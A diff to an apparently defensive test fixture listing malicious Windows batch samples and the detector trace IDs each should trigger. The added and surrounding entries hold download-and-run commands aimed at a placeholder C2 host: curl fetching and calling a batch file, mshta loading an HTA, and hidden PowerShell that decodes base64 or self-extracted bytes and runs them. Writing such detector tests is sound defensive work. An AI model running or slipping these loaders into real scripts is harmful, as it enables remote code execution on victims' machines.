@@ -102,6 +102,22 @@ export const harmfulBatch: readonly HarmfulScript[] = [
     commands: [`mshta ${C2}next.hta`],
   },
   {
+    name: 'a batch file that a client prints into another, and called',
+    file: 'printed.bat',
+    source: `@echo off\r\ncd /d %TEMP%\r\ncurl -s ${C2}printed.bat > printed2.bat\r\ncall printed2.bat\r\n`,
+    ids: ['trace_downloads_and_runs'],
+    urls: [`${C2}printed.bat`],
+    files: ['printed2.bat'],
+  },
+  {
+    name: 'a batch file that PowerShell prints, and called',
+    file: 'unseen.bat',
+    label: 'suspicious',
+    source: `@echo off\r\npowershell -w hidden -nop -c "[Text.Encoding]::ASCII.GetString([IO.File]::ReadAllBytes('%~f0')[900..1200])" > %TEMP%\\unseen2.bat\r\ncall %TEMP%\\unseen2.bat\r\n`,
+    ids: ['trace_hides_powershell', 'trace_runs_dropped_program'],
+    files: ['unseen2.bat'],
+  },
+  {
     name: 'itself read by PowerShell',
     file: 'self.bat',
     source: `@echo off\r\npowershell -w hidden -nop -c "$l=[IO.File]::ReadAllLines('%~f0')[-1];iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($l.Substring(2))))"\r\nexit /b\r\n::${base64(`IEX (New-Object Net.WebClient).DownloadString('${C2}self.ps1')`)}`,
